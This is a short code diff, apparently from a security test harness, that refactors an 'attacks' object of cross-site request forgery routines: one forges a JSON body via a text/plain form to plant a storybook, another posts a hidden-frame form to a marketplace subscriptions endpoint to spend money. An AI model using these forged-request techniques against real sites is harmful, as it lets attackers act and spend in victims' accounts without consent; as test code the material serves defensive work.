@@ -284,7 +284,7 @@ Object.assign(attacks, {
     const form = new FormData()
     form.set('File', new Blob(['PK']), 'build.zip')
     await fetch(`${home}/Storybooks/${facts.siblingStorybook}`, { ...post, body: form })
-    const sink = await load('iframe', { name: 'sink', src: 'about:blank' })
+    const sink = emptyFrame('sink')
     submit(
       { method: 'post', action: `${home}/Storybooks`, target: 'sink', enctype: 'text/plain' },
       { '{"title': '":"Planted"}' },
@@ -296,7 +296,7 @@ Object.assign(attacks, {
   },
 
   spendMoney: async () => {
-    await load('iframe', { name: 'market', src: 'about:blank' })
+    emptyFrame('market')
     const action = `${facts.portal}/marketplace/subscriptions`
     submit(
       { method: 'post', action, target: 'market' },
